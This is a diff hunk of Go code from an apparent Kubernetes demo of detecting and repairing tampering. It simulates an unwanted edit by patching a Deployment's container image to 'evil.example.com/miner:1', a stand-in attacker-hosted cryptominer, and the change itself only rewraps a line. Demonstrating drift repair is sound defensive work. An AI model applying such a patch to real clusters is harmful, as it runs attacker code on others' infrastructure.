@@ -29,7 +29,8 @@ func (s *environment) repairImage(ctx context.Context) error {
 	want := imageOf(before)
 	s.console.say("Somebody gives the Deployment another image, as kubectl edit would.")
 	patch := `{"spec":{"template":{"spec":{"containers":[{"name":"app","image":"evil.example.com/miner:1"}]}}}}`
-	after, err := s.in(deployments).Patch(ctx, shop, types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{FieldManager: demoManager})
+	after, err := s.in(deployments).Patch(ctx, shop, types.StrategicMergePatchType, []byte(patch),
+		metav1.PatchOptions{FieldManager: demoManager})
 	if err != nil {
 		return err
 	}
